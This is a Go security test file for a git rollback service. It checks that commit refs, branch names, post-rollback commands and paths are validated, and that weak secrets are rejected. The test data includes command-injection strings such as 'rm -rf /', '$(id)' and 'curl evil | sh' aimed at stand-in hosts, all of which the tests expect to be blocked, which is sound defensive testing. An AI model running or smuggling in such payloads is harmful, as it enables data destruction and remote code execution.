package security

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"rollbox/internal/history"
	"rollbox/internal/project"
	"rollbox/internal/rollback"
	"rollbox/internal/security"
	"rollbox/internal/server"
)

const testSecret = "kJ8mN2pQ5tR7vX1zB4cE6gH9jL3nP8qS2uW5yA7bD0fG3hK6"

var maliciousRefs = []string{
	"abc123; rm -rf /",
	"abc123 && curl evil.com",
	"$(id)",
	"`whoami`",
	"--upload-pack=touch /tmp/pwned",
	"-q",
	"HEAD~1",
	"main",
	"abc123^{tree}",
	"../../etc/passwd",
	"abc123\nrm -rf /",
	"",
}

// TestCommitRefInjectionPrevention checks that only hex commit ids reach git.
func TestCommitRefInjectionPrevention(t *testing.T) {
	for _, ref := range maliciousRefs {
		t.Run(ref, func(t *testing.T) {
			if err := security.ValidateCommitRef(ref); err == nil {
				t.Errorf("Expected %q to be rejected", ref)
			}
		})
	}

	for _, ref := range []string{"abc1", "3f2a9c1", strings.Repeat("F", 40)} {
		if err := security.ValidateCommitRef(ref); err != nil {
			t.Errorf("Expected %q to be accepted: %v", ref, err)
		}
	}
}

// recordingRunner fails the test if any command is started.
type recordingRunner struct {
	calls [][]string
}

func (r *recordingRunner) Run(ctx context.Context, dir string, timeout time.Duration, argv []string) (string, error) {
	r.calls = append(r.calls, argv)
	return "", nil
}

// TestRollbackRejectsMaliciousTargetsBeforeExecution drives the service
// directly: nothing may be executed for a malicious target.
func TestRollbackRejectsMaliciousTargetsBeforeExecution(t *testing.T) {
	dir := t.TempDir()
	store, err := history.NewStore(filepath.Join(t.TempDir(), "history.db"))
	if err != nil {
		t.Fatalf("NewStore() error = %v", err)
	}
	defer store.Close()

	runner := &recordingRunner{}
	proj := &project.Project{Name: "comics", Path: dir, BackupDir: filepath.Join(dir, "var", "backups")}
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	svc := rollback.NewService(proj, store, runner, nil, nil, logger)

	for _, ref := range maliciousRefs {
		_, err := svc.RollbackToCommit(context.Background(), ref, "test")
		if err == nil {
			t.Errorf("RollbackToCommit(%q) should fail", ref)
		}
	}
	if len(runner.calls) != 0 {
		t.Errorf("Expected no commands to run, got %v", runner.calls)
	}
}

// TestAPIRejectsMaliciousTargets checks the signed rollback endpoint.
func TestAPIRejectsMaliciousTargets(t *testing.T) {
	dir := t.TempDir()
	store, err := history.NewStore(filepath.Join(t.TempDir(), "history.db"))
	if err != nil {
		t.Fatalf("NewStore() error = %v", err)
	}
	defer store.Close()

	proj := &project.Project{Name: "comics", Path: dir, Secret: testSecret, BackupDir: filepath.Join(dir, "var")}
	registry := project.NewRegistry(map[string]*project.Project{"comics": proj})
	runner := &recordingRunner{}
	srv := server.NewServer(registry, store, runner, nil, slog.New(slog.NewTextHandler(io.Discard, nil)), true)

	for _, ref := range []string{"$(id)", "abc123; ls", "--help", "HEAD~1"} {
		body := []byte(`{"commit":` + quote(ref) + `,"reason":"x"}`)
		req := httptest.NewRequest("POST", "/projects/comics/rollback", bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set(server.SignatureHeader, server.Sign(body, testSecret))
		rr := httptest.NewRecorder()
		srv.Router().ServeHTTP(rr, req)

		if rr.Code != http.StatusBadRequest {
			t.Errorf("commit %q: status = %d, want 400", ref, rr.Code)
		}
	}
	srv.WaitForJobs()
	if len(runner.calls) != 0 {
		t.Errorf("Expected no commands to run, got %v", runner.calls)
	}
}

func quote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return `"` + r.Replace(s) + `"`
}

// TestPostStepCommandPolicy checks the allowlist applied to post-rollback steps.
func TestPostStepCommandPolicy(t *testing.T) {
	policy := security.NewCommandPolicy(security.DefaultAllowedCommands)

	tests := []struct {
		name    string
		cmd     []string
		wantErr bool
	}{
		{"composer install", []string{"composer", "install", "--no-dev"}, false},
		{"console cache clear", []string{"php", "bin/console", "cache:clear", "--env=prod"}, false},
		{"shell interpreter", []string{"sh", "-c", "composer install"}, true},
		{"bash", []string{"bash", "deploy.sh"}, true},
		{"curl", []string{"curl", "https://evil.example"}, true},
		{"semicolon in argument", []string{"php", "bin/console; rm -rf /"}, true},
		{"subshell in argument", []string{"composer", "install", "$(id)"}, true},
		{"redirect in argument", []string{"php", "bin/console", ">", "/etc/passwd"}, true},
		{"glob in argument", []string{"rm", "-rf", "var/*"}, true},
		{"absolute path executable", []string{"/bin/sh", "-c", "id"}, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := policy.Validate(tt.cmd)
			if (err != nil) != tt.wantErr {
				t.Errorf("Validate(%v) error = %v, wantErr %v", tt.cmd, err, tt.wantErr)
			}
		})
	}
}

// TestConfigRejectsInjectedPostSteps checks that a bad post_rollback step
// fails configuration loading instead of failing mid-rollback.
func TestConfigRejectsInjectedPostSteps(t *testing.T) {
	root := t.TempDir()
	checkout := filepath.Join(root, "comics")
	if err := os.MkdirAll(filepath.Join(checkout, ".git"), 0o750); err != nil {
		t.Fatal(err)
	}

	for _, command := range []string{
		`"sh -c 'curl evil | sh'"`,
		`"php bin/console cache:clear; rm -rf /"`,
		`["composer", "install", "$(id)"]`,
	} {
		config := "projects:\n" +
			"  comics:\n" +
			"    path: " + checkout + "\n" +
			"    secret: " + testSecret + "\n" +
			"    post_rollback:\n" +
			"      - name: evil\n" +
			"        command: " + command + "\n"

		path := filepath.Join(root, "rollbox.yaml")
		if err := os.WriteFile(path, []byte(config), 0o640); err != nil {
			t.Fatal(err)
		}

		if _, _, err := project.LoadConfig(path); err == nil {
			t.Errorf("Expected post_rollback command %s to be rejected", command)
		}
	}
}

// TestBranchNameInjectionPrevention validates branch name sanitization
func TestBranchNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		branch    string
		wantError bool
	}{
		{"main", false},
		{"release/2026.05", false},
		{"feature_reader-v2", false},
		{"main; rm -rf /", true},
		{"main && curl evil.com", true},
		{"$(whoami)", true},
		{"-main", true},
		{"--upload-pack=evil", true},
		{"main\nrm", true},
		{"", true},
	}

	for _, tt := range tests {
		t.Run(tt.branch, func(t *testing.T) {
			err := security.ValidateBranchName(tt.branch)
			if (err != nil) != tt.wantError {
				t.Errorf("ValidateBranchName(%q) error = %v, wantError %v", tt.branch, err, tt.wantError)
			}
		})
	}
}

// TestProjectNameInjectionPrevention validates project name sanitization
func TestProjectNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		name      string
		wantError bool
	}{
		{"comics", false},
		{"comic-library_2", false},
		{"../etc", true},
		{".hidden", true},
		{"-flag", true},
		{"comics/admin", true},
		{"comics;id", true},
		{"", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateProjectName(tt.name)
			if (err != nil) != tt.wantError {
				t.Errorf("ValidateProjectName(%q) error = %v, wantError %v", tt.name, err, tt.wantError)
			}
		})
	}
}

// TestBackupDirTraversalPrevention validates that backup directories stay
// inside the checkout.
func TestBackupDirTraversalPrevention(t *testing.T) {
	tmpDir := t.TempDir()
	baseDir := filepath.Join(tmpDir, "checkout")
	outsideDir := filepath.Join(tmpDir, "outside")
	for _, d := range []string{baseDir, outsideDir} {
		if err := os.MkdirAll(d, 0o750); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(outsideDir, filepath.Join(baseDir, "escape")); err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name      string
		target    string
		wantError bool
	}{
		{"relative inside", "var/rollback-backups", false},
		{"absolute inside", filepath.Join(baseDir, "var"), false},
		{"dot dot", "../outside", true},
		{"absolute outside", outsideDir, true},
		{"symlink escape", "escape/backups", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := security.SanitizePathWithin(baseDir, tt.target)
			if (err != nil) != tt.wantError {
				t.Errorf("SanitizePathWithin(%q) error = %v, wantError %v", tt.target, err, tt.wantError)
			}
		})
	}
}

// TestWeakSecretRejection validates secret validation
func TestWeakSecretRejection(t *testing.T) {
	tests := []struct {
		name     string
		secret   string
		errorMsg string
	}{
		{"too short", "short", "too short"},
		{"placeholder", "replace-with-secret-abcdefghijklmnopqrstuvwxyzAB", "placeholder"},
		{"password", "password-abcdefghijklmnopqrstuvwxyz1234567890ABC", "placeholder"},
		{"repeating", strings.Repeat("a", 52), "insufficient entropy"},
		{"two characters", strings.Repeat("ab", 25), "insufficient entropy"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateSecret(tt.secret)
			if err == nil {
				t.Fatal("Expected error, got none")
			}
			if !strings.Contains(err.Error(), tt.errorMsg) {
				t.Errorf("Expected error containing '%s', got '%s'", tt.errorMsg, err.Error())
			}
		})
	}
}

// TestGenerateSecretSecurity validates generated secrets are strong
func TestGenerateSecretSecurity(t *testing.T) {
	secrets := make(map[string]bool)
	for i := 0; i < 100; i++ {
		secret, err := security.GenerateSecret()
		if err != nil {
			t.Fatalf("Failed to generate secret: %v", err)
		}
		if err := security.ValidateSecret(secret); err != nil {
			t.Errorf("Generated secret failed validation: %v", err)
		}
		if secrets[secret] {
			t.Error("Generated duplicate secret")
		}
		secrets[secret] = true
	}
}
